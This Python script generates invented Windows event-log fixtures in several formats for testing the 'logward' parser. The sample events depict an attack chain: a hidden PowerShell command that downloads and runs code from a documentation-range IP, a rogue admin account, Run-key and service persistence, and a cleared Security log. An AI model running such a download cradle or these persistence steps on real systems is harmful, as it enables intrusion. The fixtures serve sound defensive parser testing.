#!/usr/bin/env python3
"""Writes the hand-made Windows events of this folder, each event in every form `logward parse`
reads, from the one list below:

  events.xml          one <Event> a line, as Get-WinEvent | ForEach-Object { $_.ToXml() } writes
  events-pretty.xml   an <?xml?> declaration, <Events>, and each event spread over lines
  events.jsonl        as `evtx_dump -o jsonl` writes them (numbers as JSON numbers, GUIDs of
                      GUID-typed values as old evtx_dump versions wrote them: no braces, upper case)
  events.json         as `evtx_dump -o json` writes them: `Record N` before each pretty-printed record

The events are invented (documentation addresses, example.com names). Run it from anywhere;
review the diff before committing.
"""
import json
import os
from xml.sax.saxutils import escape, quoteattr

HERE = os.path.dirname(os.path.abspath(__file__))
NS = "http://schemas.microsoft.com/win/2004/08/events/event"

SECURITY = ("Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-a5ba-3e3b0328c30d}")
SYSMON = ("Microsoft-Windows-Sysmon", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}")
PS = ("Microsoft-Windows-PowerShell", "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}")

# (provider, event id, channel, computer, time, record id, keywords, EventData or UserData)
# EventData: a list of (name, value, json type) where type is "s" (string), "n" (number),
# "b" (boolean), "g" (GUID-typed: bare upper case in old evtx_dump JSON); name None: unnamed.
EVENTS = [
    (SECURITY, 4624, "Security", "DC01.corp.example", "2024-02-01T09:14:58.1234567Z", 1001, "0x8020000000000000", [
        ("SubjectUserSid", "S-1-5-18", "s"), ("SubjectUserName", "DC01$", "s"), ("SubjectDomainName", "CORP", "s"),
        ("SubjectLogonId", "0x3e7", "s"), ("TargetUserSid", "S-1-5-21-1004336348-1177238915-682003330-1104", "s"),
        ("TargetUserName", "alice", "s"), ("TargetDomainName", "CORP", "s"), ("TargetLogonId", "0x5a2f01", "s"),
        ("LogonType", "10", "n"), ("LogonProcessName", "User32 ", "s"), ("AuthenticationPackageName", "Negotiate", "s"),
        ("WorkstationName", "WS07", "s"), ("LogonGuid", "{8A3C0F2E-1B4D-4E5F-9A6B-7C8D9E0F1A2B}", "g"),
        ("TransmittedServices", "-", "s"), ("LmPackageName", "-", "s"), ("KeyLength", "0", "n"),
        ("ProcessId", "0x3e4", "s"), ("ProcessName", r"C:\Windows\System32\svchost.exe", "s"),
        ("IpAddress", "203.0.113.7", "s"), ("IpPort", "0", "s"),
    ]),
    (SECURITY, 4625, "Security", "DC01.corp.example", "2024-02-01T09:15:02.5000000Z", 1002, "0x8010000000000000", [
        ("SubjectUserSid", "S-1-0-0", "s"), ("SubjectUserName", "-", "s"), ("SubjectDomainName", "-", "s"),
        ("SubjectLogonId", "0x0", "s"), ("TargetUserSid", "S-1-0-0", "s"), ("TargetUserName", "administrator@corp.example", "s"),
        ("TargetDomainName", "CORP", "s"), ("Status", "0xc000006d", "s"), ("FailureReason", "%%2313", "s"),
        ("SubStatus", "0xc000006a", "s"), ("LogonType", "3", "n"), ("LogonProcessName", "NtLmSsp ", "s"),
        ("AuthenticationPackageName", "NTLM", "s"), ("WorkstationName", "KALI", "s"), ("ProcessId", "0x0", "s"),
        ("ProcessName", "-", "s"), ("IpAddress", "::ffff:198.51.100.23", "s"), ("IpPort", "51234", "s"),
    ]),
    (SECURITY, 4720, "Security", "DC01.corp.example", "2024-02-01T09:20:11.0000001Z", 1003, "0x8020000000000000", [
        ("TargetUserName", "svc-backup2", "s"), ("TargetDomainName", "CORP", "s"),
        ("TargetSid", "S-1-5-21-1004336348-1177238915-682003330-1105", "s"),
        ("SubjectUserSid", "S-1-5-21-1004336348-1177238915-682003330-1104", "s"), ("SubjectUserName", "alice", "s"),
        ("SubjectDomainName", "CORP", "s"), ("SubjectLogonId", "0x5a2f01", "s"), ("PrivilegeList", "-", "s"),
        ("SamAccountName", "svc-backup2", "s"), ("DisplayName", "%%1793", "s"), ("UserAccountControl", "\n\t\t%%2080\n\t\t%%2082", "s"),
    ]),
    (SECURITY, 4732, "Security", "DC01.corp.example", "2024-02-01T09:20:12Z", 1004, "0x8020000000000000", [
        ("MemberName", "-", "s"), ("MemberSid", "S-1-5-21-1004336348-1177238915-682003330-1105", "s"),
        ("TargetUserName", "Administrators", "s"), ("TargetDomainName", "Builtin", "s"), ("TargetSid", "S-1-5-32-544", "s"),
        ("SubjectUserSid", "S-1-5-21-1004336348-1177238915-682003330-1104", "s"), ("SubjectUserName", "alice", "s"),
        ("SubjectDomainName", "CORP", "s"), ("SubjectLogonId", "0x5a2f01", "s"), ("PrivilegeList", "-", "s"),
    ]),
    (SECURITY, 4688, "Security", "WS07.corp.example", "2024-02-01T09:21:00.7654321Z", 2001, "0x8020000000000000", [
        ("SubjectUserSid", "S-1-5-21-1004336348-1177238915-682003330-1104", "s"), ("SubjectUserName", "alice", "s"),
        ("SubjectDomainName", "CORP", "s"), ("SubjectLogonId", "0x5a2f01", "s"), ("NewProcessId", "0x1a2c", "s"),
        ("NewProcessName", r"C:\Windows\System32\cmd.exe", "s"), ("TokenElevationType", "%%1938", "s"),
        ("ProcessId", "0x9f0", "s"), ("CommandLine", r'cmd.exe /c "whoami /all & net user svc-backup2"', "s"),
        ("TargetUserSid", "S-1-0-0", "s"), ("TargetUserName", "-", "s"), ("TargetDomainName", "-", "s"),
        ("TargetLogonId", "0x0", "s"), ("ParentProcessName", r"C:\Windows\explorer.exe", "s"),
        ("MandatoryLabel", "S-1-16-8192", "s"),
    ]),
    (SYSMON, 1, "Microsoft-Windows-Sysmon/Operational", "WS07.corp.example", "2024-02-01T09:21:05.1111111Z", 5001, "0x8000000000000000", [
        ("RuleName", "-", "s"), ("UtcTime", "2024-02-01 09:21:05.108", "s"),
        ("ProcessGuid", "{0197231E-61EF-693A-C812-000000000800}", "g"), ("ProcessId", "6400", "n"),
        ("Image", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "s"), ("FileVersion", "10.0.19041.1", "s"),
        ("Description", "Windows PowerShell", "s"), ("Product", "Microsoft® Windows® Operating System", "s"),
        ("Company", "Microsoft Corporation", "s"), ("OriginalFileName", "PowerShell.EXE", "s"),
        ("CommandLine", "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\"", "s"),
        ("CurrentDirectory", "C:\\Users\\alice\\", "s"), ("User", r"CORP\alice", "s"),
        ("LogonGuid", "{0197231E-AB9F-67AA-4C14-030000000000}", "g"), ("LogonId", "0x5a2f01", "s"),
        ("TerminalSessionId", "1", "n"), ("IntegrityLevel", "Medium", "s"),
        ("Hashes", "MD5=DBB2D090D2098B2B995FA067FDEF839F,SHA256=8955D2A45404A59C2E3772F3C76AEEAE48AEDF100BE328C003D7A4DF5342B491,IMPHASH=213443B550A6683661EB0CF00CF04681", "s"),
        ("ParentProcessGuid", "{0197231E-BDEA-6937-AB0C-000000000800}", "g"), ("ParentProcessId", "2544", "n"),
        ("ParentImage", r"C:\Windows\System32\cmd.exe", "s"), ("ParentCommandLine", r'"C:\Windows\system32\cmd.exe" ', "s"),
        ("ParentUser", r"CORP\alice", "s"),
    ]),
    (SYSMON, 3, "Microsoft-Windows-Sysmon/Operational", "WS07.corp.example", "2024-02-01T09:21:06.2Z", 5002, "0x8000000000000000", [
        ("RuleName", "technique_id=T1059.001", "s"), ("UtcTime", "2024-02-01 09:21:06.190", "s"),
        ("ProcessGuid", "{0197231E-61EF-693A-C812-000000000800}", "g"), ("ProcessId", "6400", "n"),
        ("Image", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "s"), ("User", r"CORP\alice", "s"),
        ("Protocol", "tcp", "s"), ("Initiated", "true", "b"), ("SourceIsIpv6", "false", "b"),
        ("SourceIp", "10.1.2.7", "s"), ("SourceHostname", "WS07.corp.example", "s"), ("SourcePort", "49822", "n"),
        ("SourcePortName", "-", "s"), ("DestinationIsIpv6", "false", "b"), ("DestinationIp", "198.51.100.7", "s"),
        ("DestinationHostname", "-", "s"), ("DestinationPort", "80", "n"), ("DestinationPortName", "http", "s"),
    ]),
    (SYSMON, 22, "Microsoft-Windows-Sysmon/Operational", "WS07.corp.example", "2024-02-01T09:21:06.3Z", 5003, "0x8000000000000000", [
        ("RuleName", "-", "s"), ("UtcTime", "2024-02-01 09:21:06.280", "s"),
        ("ProcessGuid", "{0197231E-61EF-693A-C812-000000000800}", "g"), ("ProcessId", "6400", "n"),
        ("QueryName", "update.files.example.com", "s"), ("QueryStatus", "0", "s"),
        ("QueryResults", "type:  5 cdn.example.net;::ffff:198.51.100.9;", "s"),
        ("Image", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "s"), ("User", r"CORP\alice", "s"),
    ]),
    (SYSMON, 11, "Microsoft-Windows-Sysmon/Operational", "WS07.corp.example", "2024-02-01T09:21:07Z", 5004, "0x8000000000000000", [
        ("RuleName", "-", "s"), ("UtcTime", "2024-02-01 09:21:06.990", "s"),
        ("ProcessGuid", "{0197231E-61EF-693A-C812-000000000800}", "g"), ("ProcessId", "6400", "n"),
        ("Image", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "s"),
        ("TargetFilename", r"C:\Users\alice\AppData\Local\Temp\u.dll", "s"),
        ("CreationUtcTime", "2024-02-01 09:21:06.990", "s"), ("User", r"CORP\alice", "s"),
    ]),
    (SYSMON, 13, "Microsoft-Windows-Sysmon/Operational", "WS07.corp.example", "2024-02-01T09:21:08Z", 5005, "0x8000000000000000", [
        ("RuleName", "technique_id=T1547.001", "s"), ("EventType", "SetValue", "s"), ("UtcTime", "2024-02-01 09:21:07.995", "s"),
        ("ProcessGuid", "{0197231E-61EF-693A-C812-000000000800}", "g"), ("ProcessId", "6400", "n"),
        ("Image", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "s"),
        ("TargetObject", r"HKU\S-1-5-21-1004336348-1177238915-682003330-1104\Software\Microsoft\Windows\CurrentVersion\Run\updater", "s"),
        ("Details", r"rundll32.exe C:\Users\alice\AppData\Local\Temp\u.dll,Start", "s"), ("User", r"CORP\alice", "s"),
    ]),
    (PS, 4104, "Microsoft-Windows-PowerShell/Operational", "WS07.corp.example", "2024-02-01T09:21:05.9Z", 7001, "0x0", [
        ("MessageNumber", "1", "n"), ("MessageTotal", "1", "n"),
        ("ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\r\n$x = \"<tag>&\"", "s"),
        ("ScriptBlockId", "{A1B2C3D4-E5F6-4A5B-8C9D-0E1F2A3B4C5D}", "g"), ("Path", "", "s"),
    ]),
    (("PowerShell", None), 400, "Windows PowerShell", "WS07.corp.example", "2024-02-01T09:21:05.5Z", 8001, "0x80000000000000", [
        (None, "Available", "s"), (None, "None", "s"),
        (None, "\tNewEngineState=Available\n\tPreviousEngineState=None\n\n\tSequenceNumber=13\n\n\tHostName=ConsoleHost\n\tHostVersion=5.1.19041.1\n\tHostId=7f6b0a3c-3c1d-4a0b-9d3e-2f1a0b9c8d7e\n\tHostApplication=powershell.exe -nop -w hidden -c IEX\n\tEngineVersion=5.1.19041.1\n\tRunspaceId=a1e4c7b2-0d9f-4e5a-8b3c-6d2e1f0a9b8c\n\tPipelineId=\n\tCommandName=\n\tCommandType=\n\tScriptName=\n\tCommandPath=\n\tCommandLine=", "s"),
    ]),
    (("Service Control Manager", "{555908d1-a6d7-4695-8e1e-26931d2012f4}"), 7045, "System", "WS07.corp.example", "2024-02-01T09:22:00Z", 9001, "0x8080000000000000", [
        ("ServiceName", "updsvc", "s"), ("ImagePath", r"%COMSPEC% /c C:\Users\Public\u.exe", "s"),
        ("ServiceType", "user mode service", "s"), ("StartType", "auto start", "s"), ("AccountName", "LocalSystem", "s"),
    ]),
    (("Microsoft-Windows-Eventlog", "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}"), 1102, "Security", "DC01.corp.example", "2024-02-01T09:30:00Z", 1005, "0x4020000000000000",
     ("LogFileCleared", "http://manifests.microsoft.com/win/2004/08/windows/eventlog", [
         ("SubjectUserSid", "S-1-5-21-1004336348-1177238915-682003330-1104"), ("SubjectUserName", "alice"),
         ("SubjectDomainName", "CORP"), ("SubjectLogonId", "0x5a2f01"),
     ])),
]

SYSTEM_LEVEL = {4104: 5, 400: 4, 7045: 4}


def system(e):
    (provider, guid), eid, channel, computer, time, record, keywords = e[:7]
    qualifiers = 16384 if eid == 7045 else None
    return dict(provider=provider, guid=guid, eid=eid, qualifiers=qualifiers, version=2 if eid == 4624 else (5 if channel.startswith("Microsoft-Windows-Sysmon") else 0),
                level=SYSTEM_LEVEL.get(eid, 4 if channel != "Security" else 0), task=0, opcode=0 if eid != 4104 else 15,
                keywords=keywords, time=time, record=record, pid=636, tid=700, channel=channel, computer=computer,
                user="S-1-5-18" if channel.startswith("Microsoft-Windows-Sysmon") else None,
                source="Service Control Manager" if eid == 7045 else None)


def xml_event(e, pretty=False):
    s = system(e)
    nl, i1, i2 = ("\n", "  ", "    ") if pretty else ("", "", "")
    provider = f"<Provider Name={quoteattr(s['provider'])}"
    if s["guid"]:
        provider += f" Guid={quoteattr(s['guid'].upper() if pretty else s['guid'])}"
    if s["source"]:
        provider += f" EventSourceName={quoteattr(s['source'])}"
    provider += "/>"
    eid = f"<EventID Qualifiers='{s['qualifiers']}'>{s['eid']}</EventID>" if s["qualifiers"] else f"<EventID>{s['eid']}</EventID>"
    parts = [provider, eid, f"<Version>{s['version']}</Version>", f"<Level>{s['level']}</Level>",
             f"<Task>{s['task']}</Task>", f"<Opcode>{s['opcode']}</Opcode>", f"<Keywords>{s['keywords']}</Keywords>",
             f"<TimeCreated SystemTime='{xml_time(s['time'])}'/>", f"<EventRecordID>{s['record']}</EventRecordID>",
             "<Correlation/>", f"<Execution ProcessID='{s['pid']}' ThreadID='{s['tid']}'/>",
             f"<Channel>{escape(s['channel'])}</Channel>", f"<Computer>{s['computer']}</Computer>",
             f"<Security UserID='{s['user']}'/>" if s["user"] else "<Security/>"]
    out = f"<Event xmlns='{NS}'>{nl}{i1}<System>{nl}" + "".join(f"{i2}{p}{nl}" for p in parts) + f"{i1}</System>{nl}"
    body = e[7]
    if isinstance(body, tuple):
        wrapper, ns, values = body
        out += f"{i1}<UserData>{nl}{i2}<{wrapper} xmlns='{ns}'>{nl}"
        out += "".join(f"{i2}{i1}<{k}>{escape(v)}</{k}>{nl}" for k, v in values)
        out += f"{i2}</{wrapper}>{nl}{i1}</UserData>{nl}"
    else:
        out += f"{i1}<EventData>{nl}"
        for name, value, _ in body:
            text = escape(value)
            tag = f"<Data Name={quoteattr(name)}>" if name else "<Data>"
            out += f"{i2}{tag}{text}</Data>{nl}" if text else f"{i2}{tag[:-1]}/>{nl}"
        out += f"{i1}</EventData>{nl}"
    return out + "</Event>"


def xml_time(t):
    """Windows writes nine digits of fraction."""
    date, rest = t.rstrip("Z").split("T")
    hms, _, frac = rest.partition(".")
    return f"{date}T{hms}.{(frac + '000000000')[:9]}Z"


def json_event(e):
    s = system(e)
    prov = {"Name": s["provider"]}
    if s["guid"]:
        prov["Guid"] = s["guid"]
    if s["source"]:
        prov["EventSourceName"] = s["source"]
    system_ = {"Provider": {"#attributes": prov}}
    system_["EventID"] = {"#attributes": {"Qualifiers": s["qualifiers"]}, "#text": s["eid"]} if s["qualifiers"] else s["eid"]
    system_.update({"Version": s["version"], "Level": s["level"], "Task": s["task"], "Opcode": s["opcode"],
                    "Keywords": s["keywords"], "TimeCreated": {"#attributes": {"SystemTime": s["time"]}},
                    "EventRecordID": s["record"], "Correlation": None,
                    "Execution": {"#attributes": {"ProcessID": s["pid"], "ThreadID": s["tid"]}},
                    "Channel": s["channel"], "Computer": s["computer"],
                    "Security": {"#attributes": {"UserID": s["user"]}} if s["user"] else None})
    ev = {"#attributes": {"xmlns": NS}, "System": system_}
    body = e[7]
    if isinstance(body, tuple):
        wrapper, ns, values = body
        inner = {"#attributes": {"xmlns": ns}}
        inner.update(dict(values))
        ev["UserData"] = {wrapper: inner}
    else:
        data, unnamed = {}, []
        for name, value, kind in body:
            v = {"n": lambda x: int(x), "b": lambda x: x == "true", "g": lambda x: x.strip("{}").upper()}.get(kind, lambda x: x)(value)
            if kind == "s" and value == "":
                v = None
            if name is None:
                unnamed.append(v)
            else:
                data[name] = v
        if unnamed:
            data["Data"] = {"#text": unnamed}
        ev["EventData"] = data
    return {"Event": ev}


def main():
    with open(os.path.join(HERE, "events.xml"), "w", newline="\n") as f:
        for e in EVENTS:
            f.write(xml_event(e) + "\n")
    with open(os.path.join(HERE, "events-pretty.xml"), "w", newline="\n") as f:
        f.write('<?xml version="1.0" encoding="utf-8"?>\n<Events>\n')
        for e in EVENTS:
            f.write(xml_event(e, pretty=True) + "\n")
        f.write("</Events>\n")
    with open(os.path.join(HERE, "events.jsonl"), "w", newline="\n") as f:
        for e in EVENTS:
            f.write(json.dumps(json_event(e), ensure_ascii=False, separators=(",", ":")) + "\n")
    with open(os.path.join(HERE, "events.json"), "w", newline="\n") as f:
        for n, e in enumerate(EVENTS, 1):
            f.write(f"Record {n}\n" + json.dumps(json_event(e), ensure_ascii=False, indent=2) + "\n")


if __name__ == "__main__":
    main()
